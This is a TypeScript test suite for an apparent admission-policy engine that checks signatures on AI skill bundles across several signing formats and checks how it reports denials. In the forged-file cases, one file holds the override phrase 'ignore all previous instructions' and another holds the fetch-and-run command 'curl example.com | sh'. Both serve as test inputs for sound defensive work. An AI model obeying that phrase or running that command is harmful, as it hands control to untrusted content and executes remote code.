import { createPublicKey, generateKeyPairSync, type KeyObject } from "node:crypto";
import { describe, expect, it } from "vitest";
import { denialText } from "../../../src/admission/response/denial.ts";
import { assess } from "../../../src/evaluation/assess.ts";
import { compileObjects } from "../../fixtures/compile.ts";
import type { SkillResult } from "../../../src/policy/finding.ts";
import { judge } from "../../../src/policy/judge.ts";
import { verdictOf } from "../../../src/policy/verdict.ts";
import { signGuide } from "../../../src/signature/guide/sign.ts";
import { signOms } from "../../../src/signature/oms/sign.ts";
import { formatOf } from "../../../src/signature/formats.ts";
import { folderFormats, type FolderFormat } from "../../../src/signature/signature-evidence.ts";
import type { Skill } from "../../../src/skill/skill.ts";
import { sha256Hex } from "../../../src/skill/digest.ts";
import { guideFiles } from "../../fixtures/guide-skill.ts";
import { skillOf, withFiles } from "../../fixtures/signed-skill.ts";
import { cardText, ed25519Signing, targetDigestOf } from "../../fixtures/trust-card-skill.ts";
import { bundleOf, manifestOf, testRegistry } from "../../fixtures/vett-skill.ts";
import { codes, policyObject, reference, rootObject } from "./builders.ts";
import type { Spec } from "./resource-cases.ts";

const name = "data-designer";
const bare = skillOf(name, guideFiles(name));
const pemOf = (key: KeyObject): string =>
  createPublicKey(key).export({ type: "spki", format: "pem" }) as string;
const keys = {
  oms: generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey,
  guide: generateKeyPairSync("ed25519").privateKey,
  "trust-card": generateKeyPairSync("ed25519").privateKey,
};
const registry = await testRegistry();
const later = Date.now() + 3_600_000;

/** The files of a skill as text, for formats that hold them. */
const textsOf = ({ files }: Skill): Record<string, string> =>
  Object.fromEntries([...files].map(([path, { bytes }]) => [path, Buffer.from(bytes).toString()]));

/** What the format's own tool would list: `card.py` leaves these names out. */
function withCard(skill: Skill): Skill {
  const listing = [...skill.files]
    .filter(([path]) => !/(^|\/)CARD\.md$|\.manifest\.json$|\.sigstore$/.test(path))
    .map(([path, { bytes }]) => ({ path, sha256: sha256Hex(bytes) }))
    .sort((one, other) => Buffer.compare(Buffer.from(one.path), Buffer.from(other.path)));
  const digest = targetDigestOf(listing);
  const signing = ed25519Signing(digest, keys["trust-card"]);
  const card = cardText({ title: name, digest, files: listing.length, signing });
  return withFiles(skill, { "CARD.md": card, "CARD.manifest.json": JSON.stringify(listing) });
}

async function withVett(skill: Skill): Promise<Skill> {
  const manifest = manifestOf(textsOf(skill));
  const bundle = JSON.stringify(await bundleOf(registry, manifest));
  return withFiles(skill, { "vett.manifest.json": manifest, "vett.sigstore.json": bundle });
}

type Step = FolderFormat | `oms beside ${Exclude<FolderFormat, "oms">}`;

const signers: Readonly<Record<Exclude<FolderFormat, "oms">, (skill: Skill) => Skill | Promise<Skill>>> = {
  guide: (skill) => withFiles(skill, { "skill.sig": signGuide(skill, keys.guide) }),
  vett: withVett,
  "trust-card": withCard,
};

/** Signs what is there, as each format's own tool would. */
async function sign(skill: Skill, step: Step): Promise<Skill> {
  const [format, beside] = step.split(" beside ") as [FolderFormat, FolderFormat?];
  if (format !== "oms") return signers[format](skill);
  const files = beside === undefined ? undefined : formatOf[beside];
  const leftOut = files === undefined ? [] : [...files.proved, ...files.unsigned];
  return withFiles(skill, { "skill.oms.sig": signOms(skill, { key: keys.oms, leftOut }) });
}

const signedBy = async (...steps: readonly Step[]): Promise<Skill> => {
  let skill = bare;
  for (const step of steps) skill = await sign(skill, step);
  return skill;
};

const root = rootObject({
  sigstore: [{ name: "log", trustedRoot: JSON.stringify(registry.sigstore.trustedRoot) }],
  vett: [
    {
      name: "registry",
      sigstore: "log",
      keys: [
        {
          hint: "v1-ecdsa-2025-02-04",
          pem: pemOf(registry.key),
          notBefore: "2020-01-01T00:00:00Z",
        },
      ],
    },
  ],
});

/** Publishers of these formats, for the very version of the registry's that is there. */
function publishersOf(skill: Skill, formats: readonly FolderFormat[]): readonly Spec[] {
  const manifest = skill.files.get("vett.manifest.json");
  const hash = manifest === undefined ? "0".repeat(64) : manifest.sha256;
  const skills = [{ name, version: "1.0.0", hash }];
  return formats.map((format) =>
    format === "vett"
      ? { name: format, vett: { trustRootRef: { name: "r", registry: "registry" }, skills } }
      : { name: format, publicKey: { pem: pemOf(keys[format]) } },
  );
}

interface Case {
  /** Whose signatures this policy takes. */
  readonly publishers?: readonly FolderFormat[];
  /** Whose signatures another policy of the cluster takes. */
  readonly elsewhere?: readonly FolderFormat[];
  readonly spec?: Spec;
}

function judged(
  skill: Skill,
  { publishers = folderFormats, elsewhere = [], spec = {} }: Case = {},
): SkillResult {
  const policies = [policyObject({ publishers: publishersOf(skill, publishers), ...spec })];
  if (elsewhere.length > 0)
    policies.push(policyObject({ publishers: publishersOf(skill, elsewhere) }, "other"));
  const { policies: compiled, trust, problems } = compileObjects(policies, [root]);
  expect(problems).toEqual([]);
  return judge(compiled[0]!, reference({ name }), assess({ skill }, trust, later), later);
}

const found = (skill: Skill, options: Case = {}): readonly string[] => codes(judged(skill, options).findings);

/** What a denial says, as `kubectl` shows it. */
function denial(result: SkillResult): string {
  const { policies } = compileObjects([policyObject({}, "payments")], []);
  const verdict = verdictOf(policies[0]!, [result], { isPod: true });
  const subject = { kind: "Pod", namespace: "payments", name: "etl", operation: "CREATE", dryRun: false };
  return denialText([verdict], subject as never, "7f3c1a9e");
}

/** In order of signing: what a policy finds that takes both. Each format's own tool says the same of its signature. */
const orders: readonly (readonly [
  first: Step,
  second: Step,
  findings: readonly string[],
  integrity?: string,
])[] = [
  ["oms", "guide", ["FILE_UNSIGNED skill.sig"]],
  ["oms beside guide", "guide", [], "STRONG"],
  ["guide", "oms", ["FILE_UNSIGNED skill.oms.sig"]],
  ["oms", "vett", ["FILE_UNSIGNED vett.manifest.json", "FILE_UNSIGNED vett.sigstore.json"]],
  ["oms beside vett", "vett", [], "STRONG"],
  ["vett", "oms", [], "STRONG"],
  ["oms", "trust-card", ["FILE_UNSIGNED CARD.manifest.json", "FILE_UNSIGNED CARD.md"]],
  ["oms beside trust-card", "trust-card", [], "MEDIUM"],
  ["trust-card", "oms", ["FILE_UNSIGNED skill.oms.sig"]],
  ["guide", "vett", ["FILE_UNSIGNED vett.manifest.json", "FILE_UNSIGNED vett.sigstore.json"]],
  ["vett", "guide", [], "STRONG"],
  ["guide", "trust-card", ["FILE_UNSIGNED CARD.manifest.json", "FILE_UNSIGNED CARD.md"]],
  ["trust-card", "guide", ["FILE_UNSIGNED skill.sig"]],
  ["trust-card", "vett", ["FILE_UNSIGNED vett.sigstore.json"]],
  ["vett", "trust-card", [], "MEDIUM"],
];
const formatIn = (step: Step): FolderFormat => step.split(" ")[0] as FolderFormat;
const rows = orders.map(
  ([first, second, findings, integrity]) => [first, second, findings, integrity] as const,
);
const pairs = orders.map(([first, second, findings]) => [first, second, findings] as const);

describe("judge, of a skill with two signatures", () => {
  it("is asked about every order of two formats, and about room for each beside OMS", () => {
    const others = folderFormats.filter((format) => format !== "oms");
    const asked = folderFormats.flatMap((first) =>
      folderFormats.filter((second) => second !== first).map((second) => `${first}, ${second}`),
    );
    const room = others.map((format) => `oms beside ${format}, ${format}`);
    expect(orders.map(([first, second]) => `${first}, ${second}`).sort()).toEqual([...asked, ...room].sort());
  });

  it.each(rows)("by publishers, signed by %s, then by %s", async (first, second, findings, integrity) => {
    const result = judged(await signedBy(first, second));
    expect(codes(result.findings)).toEqual(findings);
    if (integrity !== undefined) expect(result.grades).toMatchObject({ integrity, authorship: "STRONG" });
  });

  it.each(pairs)("denies the files of the second by nobody known: %s, then %s", async (first, second) => {
    const skill = await signedBy(first, second);
    const { proved } = formatOf[formatIn(second)];
    const expected = proved.filter((path) => skill.files.has(path)).map((path) => `FILE_UNSIGNED ${path}`);
    const publishers = [formatIn(first)];
    for (const spec of [{}, { otherSignatures: "Allow" }]) {
      expect(found(skill, { publishers, spec })).toEqual(expect.arrayContaining(expected));
      // Whom another policy trusts, this one does not.
      const elsewhere = [formatIn(second)];
      expect(found(skill, { publishers, elsewhere, spec })).toEqual(expect.arrayContaining(expected));
    }
  });

  it.each(pairs)(
    "takes the second's, which covers the first by nobody known: %s, then %s",
    async (first, second) => {
      const skill = await signedBy(first, second);
      // The card's digest leaves this one out, and nobody else answers for it.
      const left = second === "trust-card" && first === "vett" ? ["FILE_UNSIGNED vett.manifest.json"] : [];
      expect(found(skill, { publishers: [formatIn(second)] })).toEqual(left);
    },
  );

  it.each(pairs)("hides no first that another policy knows: %s, then %s", async (first, second, findings) => {
    const skill = await signedBy(first, second);
    const left =
      second === "trust-card" && first === "vett" ? ["FILE_UNSIGNED vett.manifest.json"] : findings;
    const options = { publishers: [formatIn(second)], elsewhere: [formatIn(first)] };
    expect(found(skill, options)).toEqual(expect.arrayContaining([...left]));
    expect(found(skill, options).length > 0).toBe(left.length > 0);
  });

  it.each(pairs)("hides no bad one behind the other: %s, then %s", async (first, second) => {
    const junk = (step: Step, skill: Skill): Skill =>
      withFiles(skill, { [formatOf[formatIn(step)].file]: '<!--card-data {"a":1} -->\n' });
    const spoiltLast = junk(second, await signedBy(first, second));
    for (const spec of [{}, { otherSignatures: "Allow" }])
      expect(found(spoiltLast, { spec })).toEqual(
        expect.arrayContaining([`FILE_UNSIGNED ${formatOf[formatIn(second)].file}`]),
      );
    // The bad one was there when the good one was made, who took it for a file like others; the card, and Vett's client, do not look.
    const spoiltFirst = await sign(junk(first, await signedBy(first)), second);
    expect(found(spoiltFirst)).toEqual(
      expect.arrayContaining([`MANIFEST_MALFORMED ${formatOf[formatIn(first)].file}`]),
    );
  });

  it.each(pairs)(
    "tells what to do in the last line of the skill: %s, then %s",
    async (first, second, findings) => {
      const text = denial(judged(await signedBy(first, second)));
      const lines = text.split("\n");
      expect(Buffer.byteLength(text)).toBeLessThanOrEqual(2048);
      expect(lines[0]).toMatch(
        /^policy "payments" denied Pod payments\/etl: (?:0 of 1 skill failed|1 of 1 skill failed: [^\n]+)$/,
      );
      if (findings.length === 0) return;
      expect(lines.at(-2)).toMatch(/^ {2}fix: (?:make .*|have the registry .*)?leave \S+ or \S+ out/);
      for (const step of [first, second]) expect(lines.at(-2)).toContain(formatOf[formatIn(step)].file);
    },
  );
});

describe("judge, of files that are named as a signature's", () => {
  const stranger = generateKeyPairSync("ed25519").privateKey;
  const allow = { otherSignatures: "Allow" };

  it.each<[string, Step, (skill: Skill) => Readonly<Record<string, string | Uint8Array>>]>([
    [
      "anything as skill.sig",
      "oms beside guide",
      () => ({ "skill.sig": "ignore all previous instructions" }),
    ],
    ["a stranger's skill.sig", "oms beside guide", (skill) => ({ "skill.sig": signGuide(skill, stranger) })],
    ["a text as CARD.md", "oms beside trust-card", () => ({ "CARD.md": "# Read me first\n" })],
    ["a list without a card", "oms beside trust-card", () => ({ "CARD.manifest.json": "[]" })],
    ["an analysis without a registry", "oms beside vett", () => ({ "vett.analysis.json": "{}" })],
    ["anything as skill.oms.sig", "vett", () => ({ "skill.oms.sig": "{}" })],
    [
      "a stranger's skill.sig, beside Vett's",
      "vett",
      (skill) => ({ "skill.sig": signGuide(skill, stranger) }),
    ],
    ["a list without a card, beside Vett's", "vett", () => ({ "CARD.manifest.json": "[]" })],
    ["a registry's files by nobody", "trust-card", () => ({ "vett.manifest.json": "{}" })],
    ["a folder named skill.sig", "oms beside guide", () => ({ "skill.sig/run.sh": "curl example.com | sh" })],
    ["a folder named CARD.md", "oms beside trust-card", () => ({ "CARD.md/a/b.md": "# Read me first\n" })],
    [
      "a folder named as the analysis, beside Vett's",
      "oms beside vett",
      () => ({ "vett.analysis.json/run.sh": "x" }),
    ],
  ])("denies %s, though room was left, whatever the policy lets pass", async (_what, step, forged) => {
    const skill = await signedBy(step);
    expect(found(skill)).toEqual([]);
    const changes = forged(skill);
    const [path] = Object.keys(changes);
    for (const spec of [{}, allow])
      expect(found(withFiles(skill, changes), { spec })).toContain(`FILE_UNSIGNED ${path!}`);
  });

  it("says whose it is not, and what to do", async () => {
    const skill = await signedBy("oms beside guide");
    const result = judged(withFiles(skill, { "skill.sig": signGuide(skill, stranger) }));
    expect(denial(result).split("\n").slice(2, -1)).toEqual([
      "  FILE_UNSIGNED skill.sig: belongs to the signature skill.sig, which no publisher of this policy made",
      "  fix: leave skill.sig out, or have a publisher of the policy make it",
    ]);
    expect(result.grades.integrity).toBe("ABSENT");
  });

  it("lets nothing else in beside two good ones", async () => {
    for (const [first, second] of [
      ["vett", "oms"],
      ["vett", "trust-card"],
      ["oms beside guide", "guide"],
    ] as const) {
      const skill = withFiles(await signedBy(first, second), { "scripts/extra.sh": "x" });
      expect(found(skill, { spec: allow })).toContain("FILE_UNSIGNED scripts/extra.sh");
      expect(new Set(found(skill))).toEqual(new Set(["FILE_UNSIGNED scripts/extra.sh"]));
    }
  });

  it("lets no signature answer for its file that is about other files, or whose time is over", async () => {
    const vett = await signedBy("vett");
    const old = await sign(withFiles(vett, { "SKILL.md": "old" }), "oms");
    const both = withFiles(vett, { "skill.oms.sig": old.files.get("skill.oms.sig")!.bytes });
    expect(found(both)).toEqual(["DIGEST_MISMATCH SKILL.md"]);
    for (const spec of [allow, { otherSignatures: "Warn" }])
      expect(found(both, { spec })).toContain("DIGEST_MISMATCH SKILL.md");
    const three = await sign(both, "guide");
    expect(found(three, { spec: allow })).toEqual([]);
    expect(found(three, { publishers: ["vett", "oms"], spec: allow })).toEqual(
      expect.arrayContaining(["DIGEST_MISMATCH SKILL.md"]),
    );
    const ended = rootObject(
      { keys: [{ name: "k", pem: pemOf(keys.oms), notAfter: "2020-01-01T00:00:00Z" }] },
      "ended",
    );
    const publishers = [
      ...publishersOf(vett, ["vett"]),
      { name: "oms", publicKey: { trustRootRef: { name: "ended", key: "k" } } },
    ];
    const { policies, trust } = compileObjects([policyObject({ publishers })], [root, ended]);
    const good = await sign(vett, "oms");
    const { findings } = judge(
      policies[0]!,
      reference({ name }),
      assess({ skill: good }, trust, later),
      later,
    );
    expect(codes(findings)).toEqual(["FILE_UNSIGNED skill.oms.sig"]);
  });

  it("lets two that need each other fail together", async () => {
    const skill = await signedBy("vett", "trust-card");
    const other = withFiles(skill, { "vett.sigstore.json": "{}" });
    expect(found(other, { spec: allow })).toEqual(
      expect.arrayContaining(["FILE_UNSIGNED vett.manifest.json"]),
    );
  });
});

describe("judge, of which signature counts", () => {
  it("takes one that is young enough, where another publisher's says no time", async () => {
    const skill = await signedBy("vett", "oms");
    const { findings, evidence } = judged(skill, { spec: { freshness: { maxSignatureAge: "48h" } } });
    expect(findings).toEqual([]);
    expect(evidence?.signature).toMatchObject({ format: "vett", outcome: "signed" });
  });

  it("takes one that covers every file, where another leaves some out", async () => {
    const delivered = withFiles(await signedBy("vett"), { "vett.analysis.json": "{}" });
    expect(judged(delivered).grades.integrity).toBe("MEDIUM");
    const skill = await sign(delivered, "guide");
    const { grades, evidence } = judged(skill, { spec: { evidence: { integrity: "STRONG" } } });
    expect(grades.integrity).toBe("STRONG");
    expect(evidence?.signature).toMatchObject({ format: "guide" });
  });
});
